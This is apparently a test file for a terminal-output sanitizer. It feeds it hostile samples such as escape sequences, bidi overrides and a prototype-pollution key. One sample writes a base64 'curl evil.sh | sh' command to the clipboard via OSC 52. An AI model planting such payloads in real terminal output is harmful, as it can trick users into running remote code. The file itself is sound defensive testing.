import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { sanitizeDeep, sanitizeLine, sanitizeText } from '../../src/domain/sanitize.js';

const ESC = '\x1b';

describe('sanitizeText: hostile samples', () => {
  const cases: [string, string, string][] = [
    ['cursor movement', `Agent${ESC}[2A${ESC}[10Cfake`, 'Agentfake'],
    ['screen clear and home', `${ESC}[2J${ESC}[HAdmin`, 'Admin'],
    ['SGR colour', `${ESC}[31;1mred${ESC}[0m`, 'red'],
    ['private mode (hide cursor, alt screen)', `${ESC}[?25l${ESC}[?1049hx`, 'x'],
    ['OSC 52 clipboard write, BEL', `a${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07b`, 'ab'],
    ['OSC 52 clipboard write, ST', `a${ESC}]52;c;Y3VybA==${ESC}\\b`, 'ab'],
    ['OSC 8 hyperlink', `${ESC}]8;;https://evil.example/${ESC}\\click me${ESC}]8;;${ESC}\\`, 'click me'],
    ['window title', `${ESC}]0;pwned\x07name`, 'name'],
    ['DCS string', `x${ESC}P1$r0m${ESC}\\y`, 'xy'],
    ['APC / PM / SOS strings', `1${ESC}_apc${ESC}\\2${ESC}^pm${ESC}\\3${ESC}Xsos${ESC}\\4`, '1234'],
    ['single-char ESC sequences', `${ESC}7${ESC}cA${ESC}(BB${ESC}M`, 'AB'],
    ['8-bit CSI', 'a\x9b2Jb\x9b31mc', 'abc'],
    ['8-bit OSC ended by 8-bit ST', 'a\x9d52;c;QUFB\x9cb', 'ab'],
    ['other C1 controls', 'a\x85b\x8dc\x80d', 'abcd'],
    ['C0 controls, DEL, backspace overwrite', 'ab\x08\x08XY\x00\x07\x7fz', 'abXYz'],
    ['carriage return overwrite', 'safe\rEVIL', 'safe\nEVIL'],
    ['bidi override (Trojan Source)', 'Agent\u202Enimda\u202C', 'Agentnimda'],
    ['bidi isolates and marks', '\u2066a\u2067b\u2068c\u2069\u200Ed\u200F\u061C', 'abcd'],
    ['zero-width space and BOM', 'Ad\u200Bmin\uFEFF', 'Admin'],
    ['Unicode tag characters (invisible text)', 'hi\u{E0041}\u{E0042}!', 'hi!'],
    ['ESC at the end', `end${ESC}`, 'end'],
    ['OSC aborted by a new CSI', `${ESC}]0;title${ESC}[31mred`, 'red'],
    ['unterminated OSC swallows the rest', `ok${ESC}]52;c;AAAA`, 'ok'],
    ['CSI aborted by a control', `a${ESC}[12\nb`, 'a\nb'],
  ];
  it.each(cases)('%s', (_name, input, expected) => {
    expect(sanitizeText(input)).toBe(expected);
  });

  it('keeps ordinary text, accents, CJK, emoji and joiners', () => {
    const text = 'Équipe 東京 👩‍💻 support — 100% ✓';
    expect(sanitizeText(text)).toBe(text);
  });

  it('turns tabs into spaces unless asked to keep them; keeps or flattens newlines', () => {
    expect(sanitizeText('a\tb\r\nc')).toBe('a b\nc');
    expect(sanitizeText('a\tb', { tabs: 'keep' })).toBe('a\tb');
    expect(sanitizeText('a\nb\u2028c', { newlines: 'space' })).toBe('a b c');
    expect(sanitizeLine('line 1\nline 2\tend')).toBe('line 1 line 2 end');
  });

  it('replaces lone surrogates', () => {
    expect(sanitizeText('a\uD800b')).toBe('a\uFFFDb');
  });
});

describe('sanitizeDeep', () => {
  it('returns a sanitised copy of every string and key, leaving the input alone', () => {
    const input = { Description: `x${ESC}[2J`, Tags: [{ Key: 'k\u202E', Value: `${ESC}]52;c;AA\x07v` }], n: 3, ok: true, none: null };
    const out = sanitizeDeep(input);
    expect(out).toEqual({ Description: 'x', Tags: [{ Key: 'k', Value: 'v' }], n: 3, ok: true, none: null });
    expect(input.Description).toBe(`x${ESC}[2J`);
  });

  it('keeps a hostile __proto__ key as data', () => {
    const parsed = JSON.parse('{"__proto__": {"polluted": true}, "a": "b"}') as Record<string, unknown>;
    const out = sanitizeDeep(parsed);
    expect(Object.getPrototypeOf(out)).toBe(Object.prototype);
    expect(Object.keys(out)).toEqual(['__proto__', 'a']);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe('sanitizeText: properties', () => {
  // Strings rich in the characters that matter: controls, ESC, C1, bidi, brackets that form sequences.
  const hostileChar = fc.oneof(
    fc.constantFrom('\x1b', '[', ']', '\\', '\x07', '\x9b', '\x9c', '\x9d', '\x90', 'P', '_', '^', 'X', ';', '2', 'J', 'm', '?'),
    fc.constantFrom('\u202E', '\u2066', '\u200E', '\u200B', '\uFEFF', '\n', '\r', '\t', '\uD800', '\uDC00', '\uDB40', '\uDC41'),
    fc.integer({ min: 0, max: 0x9f }).map((c) => String.fromCharCode(c)),
    fc.string({ unit: 'grapheme', maxLength: 1 }),
  );
  const hostile = fc.array(hostileChar, { maxLength: 40 }).map((cs) => cs.join(''));
  const forbidden = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061C\u200B\u200E\u200F\u202A-\u202E\u2066-\u2069\uFEFF]|\uDB40[\uDC00-\uDC7F]/;

  it('never leaves ESC, C0/C1 controls or bidi characters, and is idempotent', () => {
    fc.assert(
      fc.property(hostile, (s) => {
        const once = sanitizeText(s);
        expect(forbidden.test(once)).toBe(false);
        expect(sanitizeText(once)).toBe(once);
        const line = sanitizeLine(s);
        expect(/[\n\t]/.test(line)).toBe(false);
        expect(sanitizeLine(line)).toBe(line);
      }),
      { numRuns: 500 },
    );
  });

  it('leaves printable text unchanged', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c)) }), (s) => {
        expect(sanitizeText(s)).toBe(s);
      }),
    );
  });
});
